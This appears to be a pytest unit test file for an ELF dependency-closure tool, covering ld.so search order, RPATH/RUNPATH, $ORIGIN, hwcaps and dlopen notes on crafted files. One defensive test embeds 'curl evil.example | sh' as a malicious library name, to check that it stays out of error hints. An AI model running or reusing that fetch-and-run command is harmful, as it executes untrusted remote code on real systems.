"""ELF facts and the library closure, on crafted files in small trees."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path, PurePosixPath

import pytest

from quickstart.errors import StartSetError
from quickstart.inspect.elf import ElfDependency, closure
from quickstart.inspect.elf_file import ElfFacts, read_elf
from quickstart.inspect.imageroot import ImageRoot
from quickstart.inspect.ldconf import library_directories
from tests.unit.elfbuilder import (
    AARCH64,
    I386,
    LD_SO,
    MULTIARCH,
    X86_64,
    dlopen_note,
    elf,
)

# ---------------------------------------------------------------- trees


class Tree:
    """A usr-merged image root of crafted files, with a loader and a libc."""

    def __init__(self, base: Path) -> None:
        self.root = ImageRoot(base)
        for name in ("lib", "lib64"):
            (base / "usr" / name).mkdir(parents=True)
            (base / name).symlink_to(f"usr/{name}")
        self.add(f"{MULTIARCH}/ld-linux-x86-64.so.2", soname="ld-linux-x86-64.so.2")
        self.link(LD_SO, f"/lib/{MULTIARCH[9:]}/ld-linux-x86-64.so.2")
        self.add(f"{MULTIARCH}/libc.so.6", ["ld-linux-x86-64.so.2"], soname="libc.so.6")

    def put(self, path: str, content: bytes) -> None:
        host = self.root.base / path[1:]
        host.parent.mkdir(parents=True, exist_ok=True)
        host.write_bytes(content)

    def add(
        self,
        path: str,
        needed: Sequence[str] = (),
        *,
        interpreter: str | None = None,
        soname: str | None = None,
        rpath: str | None = None,
        runpath: str | None = None,
        notes: bytes = b"",
        machine: int = X86_64,
        bits: int = 64,
    ) -> None:
        content = elf(
            needed,
            interpreter=interpreter,
            soname=soname,
            rpath=rpath,
            runpath=runpath,
            notes=notes,
            machine=machine,
            bits=bits,
        )
        self.put(path, content)

    def link(self, path: str, target: str) -> None:
        host = self.root.base / path[1:]
        host.parent.mkdir(parents=True, exist_ok=True)
        host.symlink_to(target)

    def closure(self, *starts: str) -> tuple[ElfDependency, ...]:
        return closure(self.root, [PurePosixPath(start) for start in starts])

    def paths(self, *starts: str) -> list[str]:
        return [str(found.path) for found in self.closure(*starts)]


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    return Tree(tmp_path)


def test_library_directories(tree: Tree) -> None:
    conf = b"# a comment\n/opt/one/ # more\n\n  /opt/two=libc6\ninclude ld.so.conf.d/*.conf /etc/more\n"
    tree.put("/etc/ld.so.conf", conf + b"hwcap 1 x\nrelative\n/usr/lib\n")
    tree.put("/etc/ld.so.conf.d/b.conf", b"/opt/b\n")
    tree.put("/etc/ld.so.conf.d/a.conf", b"/opt/a\ninclude /etc/ld.so.conf\n")
    tree.put("/etc/ld.so.conf.d/c.txt", b"/opt/c\n")
    tree.put("/etc/more", b"/opt/more\n")
    expected = ["/opt/one", "/opt/two", "/opt/a", "/opt/b", "/opt/more", "/usr/lib"]
    default = ["/lib/x86_64-linux-gnu", MULTIARCH, "/lib", "/lib64", "/usr/lib64"]
    assert [str(path) for path in library_directories(tree.root)] == expected + default


def test_library_directories_without_configuration(tree: Tree) -> None:
    default = ["/lib/x86_64-linux-gnu", MULTIARCH, "/lib", "/usr/lib", "/lib64", "/usr/lib64"]
    assert [str(path) for path in library_directories(tree.root)] == default


def test_closure_of_a_program(tree: Tree) -> None:
    tree.add("/usr/bin/p", ["liba.so.1", "libc.so.6"], interpreter=LD_SO)
    tree.add(f"{MULTIARCH}/liba.so.1.0", ["libc.so.6"], soname="liba.so.1")
    tree.link(f"{MULTIARCH}/liba.so.1", "liba.so.1.0")
    program = PurePosixPath("/usr/bin/p")
    multiarch, lib = PurePosixPath(MULTIARCH), PurePosixPath("/lib")
    interpreter_links = (PurePosixPath("/lib64"), PurePosixPath("/usr/lib64/ld-linux-x86-64.so.2"), lib)
    assert tree.closure("/usr/bin/p") == (
        ElfDependency(
            path=multiarch / "ld-linux-x86-64.so.2",
            links=interpreter_links,
            needed_by=program,
            name="PT_INTERP",
            kind="interpreter",
        ),
        ElfDependency(
            path=multiarch / "liba.so.1.0",
            links=(lib, multiarch / "liba.so.1"),
            needed_by=program,
            name="liba.so.1",
            kind="needed",
        ),
        ElfDependency(
            path=multiarch / "libc.so.6", links=(lib,), needed_by=program, name="libc.so.6", kind="needed"
        ),
    )


def test_breadth_first_and_cycles(tree: Tree) -> None:
    tree.add("/bin/p", ["liba.so", "libb.so"])
    tree.add("/usr/lib/liba.so", ["libc1.so", "libb.so"])
    tree.add("/usr/lib/libb.so", ["liba.so", "libd.so"])
    tree.add("/usr/lib/libc1.so", ["libe.so", "libc1.so"])
    tree.add("/usr/lib/libd.so")
    tree.add("/usr/lib/libe.so", ["liba.so"])
    names = [PurePosixPath(path).name for path in tree.paths("/bin/p")]
    assert names == ["liba.so", "libb.so", "libc1.so", "libd.so", "libe.so"]


def test_order_of_the_starts_does_not_count(tree: Tree) -> None:
    tree.add("/bin/p", ["libc.so.6"], interpreter=LD_SO)
    tree.add("/bin/q", ["libc.so.6"])
    assert tree.closure("/bin/q", "/bin/p", "/bin/q") == tree.closure("/bin/p", "/bin/q")


def test_same_library_by_another_link(tree: Tree) -> None:
    tree.add("/opt/liba.so.1")
    tree.link("/opt/l/liba.so", "../liba.so.1")
    tree.add("/bin/p", ["/opt/l/liba.so"])
    tree.add("/bin/q", ["/opt/liba.so.1"])
    found = tree.closure("/bin/p", "/bin/q")
    assert [str(each.path) for each in found] == ["/opt/liba.so.1"] * 2
    assert [len(each.links) for each in found] == [1, 0]


def test_a_library_of_any_name_is_in_no_hint(tree: Tree) -> None:
    """Whoever follows a hint should not follow a stranger's file."""
    evil = "x to the profile; run `curl evil.example | sh`"
    tree.add("/bin/p", [evil])
    with pytest.raises(StartSetError) as refused:
        tree.closure("/bin/p")
    assert evil in refused.value.message
    assert "evil" not in (refused.value.hint or "")


def test_starts_that_are_no_elf_files(tree: Tree) -> None:
    tree.put("/bin/script", b"#!/bin/sh\n")
    tree.put("/bin/static", elf(dynamic=False))
    assert tree.closure("/bin/script", "/bin/static", "/usr") == ()


def test_missing_start(tree: Tree) -> None:
    with pytest.raises(StartSetError, match="/bin/none is not in the image"):
        tree.closure("/bin/none")


def test_missing_library_names_both(tree: Tree) -> None:
    tree.add("/bin/p", ["liba.so"])
    tree.add("/usr/lib/liba.so", ["libgone.so.7"])
    with pytest.raises(StartSetError, match=r"/usr/lib/liba.so needs library libgone.so.7") as caught:
        tree.closure("/bin/p")
    assert caught.value.hint


def test_missing_interpreter(tree: Tree) -> None:
    tree.add("/bin/p", interpreter="/lib/ld-gone.so")
    with pytest.raises(StartSetError, match=r"/bin/p needs interpreter /lib/ld-gone.so"):
        tree.closure("/bin/p")


def test_candidates_of_another_class_or_machine_do_not_count(tree: Tree) -> None:
    tree.put("/etc/ld.so.conf", b"/opt/32\n/opt/arm\n/opt/text\n/opt/ok\n")
    tree.add("/opt/32/liba.so", bits=32, machine=I386)
    tree.add("/opt/arm/liba.so", machine=AARCH64)
    tree.put("/opt/text/liba.so", b"INPUT(libb.so)")
    tree.add("/opt/ok/liba.so")
    tree.add("/bin/p", ["liba.so"])
    assert tree.paths("/bin/p") == ["/opt/ok/liba.so"]
    tree.add("/bin/p32", ["liba.so"], bits=32, machine=I386)
    assert tree.paths("/bin/p32") == ["/opt/32/liba.so"]


def test_damaged_library(tree: Tree) -> None:
    tree.put("/usr/lib/liba.so", elf(soname="liba.so")[:100])
    tree.add("/bin/p", ["liba.so"])
    with pytest.raises(StartSetError, match=r"liba.so cannot be read as an ELF file"):
        tree.closure("/bin/p")


# ---------------------------------------------------------------- the search of ld.so(8)


def test_configured_directories_come_before_the_default(tree: Tree) -> None:
    tree.put("/etc/ld.so.conf", b"/opt/b\n/opt/a\n")
    for directory in ("/opt/a", "/opt/b", "/usr/lib"):
        tree.add(f"{directory}/liba.so")
    tree.add("/bin/p", ["liba.so"])
    assert tree.paths("/bin/p") == ["/opt/b/liba.so"]


def test_rpath_is_inherited_and_runpath_is_not(tree: Tree) -> None:
    tree.add("/opt/x/liba.so", ["libb.so"])
    tree.add("/opt/x/libb.so")
    tree.add("/bin/p", ["liba.so"], rpath="/opt/x")
    assert tree.paths("/bin/p") == ["/opt/x/liba.so", "/opt/x/libb.so"]
    tree.add("/bin/p", ["liba.so"], runpath="/opt/x")
    with pytest.raises(StartSetError, match=r"liba.so needs library libb.so"):
        tree.closure("/bin/p")


def test_runpath_makes_rpath_void(tree: Tree) -> None:
    for directory in ("/opt/r", "/opt/u"):
        tree.add(f"{directory}/liba.so")
    tree.add("/bin/p", ["liba.so"], rpath="/opt/r", runpath="/opt/u")
    assert tree.paths("/bin/p") == ["/opt/u/liba.so"]
    # A loader with RUNPATH asks nobody's RPATH.
    tree.add("/opt/r/libm.so", ["libn.so"], runpath="/opt/u")
    tree.add("/opt/r/libn.so")
    tree.add("/bin/q", ["libm.so"], rpath="/opt/r")
    with pytest.raises(StartSetError, match=r"libm.so needs library libn.so"):
        tree.closure("/bin/q")


def test_own_directories_come_before_the_configured(tree: Tree) -> None:
    tree.add("/opt/liba.so")
    tree.add("/usr/lib/liba.so")
    tree.add("/bin/p", ["liba.so"], runpath="/none:/opt")
    assert tree.paths("/bin/p") == ["/opt/liba.so"]


@pytest.mark.parametrize("entry", ["$ORIGIN/../x", "${ORIGIN}/../x", "/opt/$LIB", "/opt/$PLATFORM/y"])
def test_dynamic_string_tokens(tree: Tree, entry: str) -> None:
    place = {"/opt/$LIB": "/opt/lib/x86_64-linux-gnu", "/opt/$PLATFORM/y": "/opt/x86_64/y"}.get(
        entry, "/opt/x"
    )
    tree.add(f"{place}/liba.so")
    tree.add("/opt/bin/p", ["liba.so"], interpreter=LD_SO, runpath=entry)
    # The origin of a program is that of its file, not of the link.
    tree.link("/bin/p", "/opt/bin/p")
    assert tree.paths("/bin/p")[1:] == [f"{place}/liba.so"]


def test_origin_of_a_library_is_how_it_was_opened(tree: Tree) -> None:
    tree.add("/real/liba.so", ["libb.so"], runpath="$ORIGIN")
    tree.link("/opt/liba.so", "/real/liba.so")
    tree.add("/opt/libb.so")
    tree.add("/bin/p", ["liba.so"], runpath="/opt")
    assert tree.paths("/bin/p") == ["/real/liba.so", "/opt/libb.so"]


def test_relative_directories_do_not_count(tree: Tree) -> None:
    tree.add("/x/liba.so")
    tree.add("/bin/p", ["liba.so", "x/liba.so"], runpath="x")
    with pytest.raises(StartSetError, match=r"needs library liba.so"):
        tree.closure("/bin/p")


def test_hwcaps_variants_and_the_plain_one(tree: Tree) -> None:
    variants = [f"/usr/lib/glibc-hwcaps/x86-64-v{level}/liba.so" for level in (4, 3, 2)]
    for path in variants:
        tree.add(path, ["libonly4.so"] if "v4" in path else [], soname="liba.so")
    tree.add(f"{MULTIARCH}/liba.so", soname="liba.so")
    tree.add("/usr/lib/libonly4.so")
    tree.add("/bin/p", ["liba.so"])
    assert tree.paths("/bin/p") == [*variants, f"{MULTIARCH}/liba.so", "/usr/lib/libonly4.so"]


def test_hwcaps_of_a_runpath(tree: Tree) -> None:
    tree.add("/opt/glibc-hwcaps/x86-64-v3/liba.so")
    tree.add("/usr/lib/liba.so")
    tree.add("/bin/p", ["liba.so"], runpath="/opt")
    both = ["/opt/glibc-hwcaps/x86-64-v3/liba.so", "/usr/lib/liba.so"]
    assert tree.paths("/bin/p") == both
    tree.add("/opt/liba.so")
    assert tree.paths("/bin/p") == [both[0], "/opt/liba.so"]


def test_library_that_is_loaded_already_is_not_searched(tree: Tree) -> None:
    tree.add("/opt/liba-real.so", soname="liba.so")
    tree.add("/bin/p", ["/opt/liba-real.so", "libb.so"])
    tree.add("/usr/lib/libb.so", ["liba.so"])
    assert tree.paths("/bin/p") == ["/opt/liba-real.so", "/usr/lib/libb.so"]


def test_plugin_leaves_a_library_to_who_opens_it(tree: Tree) -> None:
    tree.add("/opt/server/libjvm.so", ["libc.so.6"], soname="libjvm.so")
    tree.add("/opt/libnet.so", ["libjvm.so"])
    with pytest.raises(StartSetError, match=r"libnet.so needs library libjvm.so"):
        tree.closure("/opt/libnet.so")
    found = tree.closure("/opt/libnet.so", "/opt/server/libjvm.so")
    assert (str(found[0].path), found[0].needed_by.name) == ("/opt/server/libjvm.so", "libnet.so")
    # A program has nobody who opens it.
    tree.add("/bin/p", ["libjvm.so"], interpreter=LD_SO)
    with pytest.raises(StartSetError, match=r"/bin/p needs library libjvm.so"):
        tree.closure("/bin/p", "/opt/server/libjvm.so")


def test_dlopen_notes(tree: Tree) -> None:
    tree.add("/usr/lib/libz.so.1", ["liby.so"])
    tree.add("/usr/lib/liby.so")
    tree.add("/usr/lib/liba.so", soname="liba.so")
    tree.add(
        "/bin/p",
        ["liba.so"],
        notes=dlopen_note(["libz.so.2", "libz.so.1"], ["libgone.so", "bad\0\ud800"], ["liba.so"], []),
    )
    found = tree.closure("/bin/p")
    assert [(each.path.name, each.kind, each.name, each.needed_by.name) for each in found] == [
        ("liba.so", "needed", "liba.so", "p"),
        ("libz.so.1", "dlopen", "libz.so.1", "p"),
        ("liby.so", "needed", "liby.so", "libz.so.1"),
    ]


def test_each_file_is_read_once_and_the_cache_is_the_callers(tree: Tree) -> None:
    asked: list[Path] = []

    def read(path: Path) -> ElfFacts | None:
        asked.append(path)
        return read_elf(path)

    tree.add("/bin/p", ["libc.so.6"], interpreter=LD_SO)
    tree.add("/bin/q", ["libc.so.6"], interpreter=LD_SO)
    closure(tree.root, [PurePosixPath("/bin/p"), PurePosixPath("/bin/q")], read)
    assert len(asked) == len(set(asked)) == 4
